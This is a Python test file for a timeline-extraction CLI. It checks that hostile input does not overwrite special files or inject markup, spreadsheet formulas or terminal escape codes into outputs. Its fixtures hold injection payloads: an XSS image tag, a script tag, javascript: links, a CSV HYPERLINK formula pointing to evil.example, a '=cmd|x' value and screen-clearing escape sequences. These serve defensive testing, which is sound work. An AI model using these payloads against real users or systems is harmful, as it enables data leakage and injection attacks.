"""Hostile input, second round (issue 15): nothing overwritten that should not be, nothing
injected into an output. Items 1-5: special files and links as outputs, Markdown, CSV formulas,
terminal escape sequences."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from pathlib import Path

import pytest
from factories import make_chronology, make_document, make_event, make_mention
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from timeline_cli.cli.app import app
from timeline_cli.core.models import Chronology, ChronologyEvent, DateConflict
from timeline_cli.output.export import to_csv, to_json, to_jsonl
from timeline_cli.output.markdown import to_markdown

runner = CliRunner()
EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "chronology.json"

SCRIPT_ID = "a\n\n<img src=x onerror=alert(1)>\n# Injected\n`tick`"
FORMULA = '=HYPERLINK("https://evil.example/?leak","click")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07Kim met\rClinton\x9b31m"


def _event(summary: str, sentence: str, document: str, actors: tuple[str, ...]) -> ChronologyEvent:
    mention = make_mention(document, sentence, date_text="Friday", date_rule="weekday")
    return make_event(
        "2012-03-09", summary=summary, actors=actors, places=("@Washington",), mentions=[mention],
        conflicts=(DateConflict("2012-03-08", (document,)),),
    )  # fmt: skip


def _hostile_chronology(summary: str, sentence: str, document: str = SCRIPT_ID) -> Chronology:
    documents = [make_document(document, path="x.txt", title=f"Title {ESCAPES}")]
    event = _event(summary, sentence, document, ("-Kim", "+Clinton"))
    return make_chronology(event, documents=documents)


def _saved(tmp_path: Path, chronology: Chronology) -> Path:
    path = tmp_path / "saved.json"
    path.write_text(to_json(chronology), encoding="utf-8")
    return path


# --- 1. outputs: special files and links -----------------------------------------------------


@pytest.fixture
def specials(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "elsewhere.json").write_text("keep me")
    paths = {
        "fifo": tmp_path / "fifo.json",
        "link": tmp_path / "link.json",
        "dangling": tmp_path / "dangling.json",
    }
    os.mkfifo(paths["fifo"])
    paths["link"].symlink_to(tmp_path / "elsewhere.json")
    paths["dangling"].symlink_to(tmp_path / "deleted.json")
    try:  # `mknod f c 1 7`: what `-o /dev/null --force` would replace when run as root
        os.mknod(tmp_path / "device.json", stat.S_IFCHR | 0o666, os.makedev(1, 7))
        paths["device"] = tmp_path / "device.json"
    except PermissionError:
        pass
    return paths


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_special_files_and_links_are_refused_as_outputs(
    specials: dict[str, Path], tmp_path: Path, force: list[str]
) -> None:
    for name, path in specials.items():
        kind = stat.S_IFMT(os.lstat(path).st_mode)
        result = runner.invoke(app, ["show", str(EXAMPLE), "-o", str(path), *force])
        assert result.exit_code == 2, (name, result.output)
        assert str(path) in result.stderr and re.search("link|not a regular file", result.stderr)
        assert stat.S_IFMT(os.lstat(path).st_mode) == kind, f"{name} was replaced"
    assert (tmp_path / "elsewhere.json").read_text() == "keep me"
    assert not (tmp_path / "deleted.json").exists()


# --- 3. Markdown -------------------------------------------------------------------------------


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)  # raw HTML allowed, as on most sites


def test_ids_and_texts_cannot_inject_markup_into_markdown() -> None:
    chronology = _hostile_chronology(
        "Kim met <script>alert(1)</script> # not a heading", f"{ESCAPES} [x](javascript:1)"
    )
    markdown = to_markdown(chronology)
    html = _rendered(markdown)
    assert "<img" not in html and "<script" not in html and 'href="javascript' not in html
    assert re.findall(r"<h\d>[^<]*", html) == ["<h1>Chronology", "<h2>March 2012"]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", markdown)
    footnote = next(line for line in markdown.splitlines() if line.startswith("[^1]:"))
    assert "<img src=x onerror=alert(1)>" in footnote  # the id, whole, on its own line


def test_a_file_name_cannot_inject_markup_into_markdown(tmp_path: Path) -> None:
    name = "x\n\n<img src=x onerror=alert(1)>\n# Injected.txt"
    (tmp_path / name).write_text(
        "March 9, 2012\n\nKim Sung-hwan met Hillary Clinton in Washington on Friday, "
        "officials said.\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["extract", str(tmp_path), "--format", "markdown", "-q"])
    assert result.exit_code == 0, result.output
    assert "onerror" in result.stdout  # the id is there, as text
    html = _rendered(result.stdout)
    assert "<img" not in html and "Injected</h1>" not in html


# --- 4. CSV formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_formulas_are_quoted(start: str) -> None:
    chronology = _hostile_chronology(f"{start}{FORMULA}", f"{start}1+1", document="=cmd|x")
    (row,) = csv.DictReader(io.StringIO(to_csv(chronology.events)))
    for column in ("summary", "evidence", "actors", "places", "documents"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["summary"][1:].replace("\\x09", "\t").replace("\\x0d", "\r") == start + FORMULA
    # JSON keeps the text as the article wrote it
    assert json.loads(to_jsonl(chronology.events))["summary"] == start + FORMULA


def test_show_csv_neutralizes_formulas_and_json_keeps_them(tmp_path: Path) -> None:
    saved = _saved(tmp_path, _hostile_chronology(FORMULA, FORMULA, document="doc"))
    as_csv = runner.invoke(app, ["show", str(saved), "--format", "csv"])
    (row,) = csv.DictReader(io.StringIO(as_csv.stdout))
    assert row["summary"] == "'" + FORMULA and row["evidence"] == "'" + FORMULA + " (doc)"
    as_json = runner.invoke(app, ["show", str(saved), "--format", "json"])
    assert json.loads(as_json.stdout)["events"][0]["summary"] == FORMULA


# --- 5. terminal escape sequences ----------------------------------------------------------------


def test_table_shows_control_characters_as_escapes(tmp_path: Path) -> None:
    saved = _saved(tmp_path, _hostile_chronology(ESCAPES, "sentence", document=ESCAPES))
    result = runner.invoke(app, ["show", str(saved), "--no-color"])
    assert result.exit_code == 0, result.output
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stdout)
    assert "\\x1b[2J" in result.stdout and "\\x9b31m" in result.stdout


def test_messages_on_stderr_show_control_characters_as_escapes(tmp_path: Path) -> None:
    (tmp_path / "good.txt").write_text(
        "March 9, 2012\n\nKim Sung-hwan met Hillary Clinton in Washington on Friday, "
        "officials said.\n"
    )
    (tmp_path / "\x1b]0;pwned\x07\x1b[2J.txt").write_bytes(b"")  # empty: named on stderr
    result = runner.invoke(app, ["extract", str(tmp_path), "--format", "json"])
    assert result.exit_code == 1
    (line,) = [line for line in result.stderr.splitlines() if "empty file" in line]
    assert "\\x1b]0;pwned\\x07\\x1b[2J.txt" in line
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stderr)


def test_json_escapes_c1_controls_and_keeps_the_text() -> None:
    chronology = _hostile_chronology(ESCAPES, ESCAPES, document="doc")
    for text in (to_json(chronology), to_jsonl(chronology.events)):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", text)
        assert "\\u009b" in text and "\\u001b" in text
    assert json.loads(to_json(chronology))["events"][0]["summary"] == ESCAPES
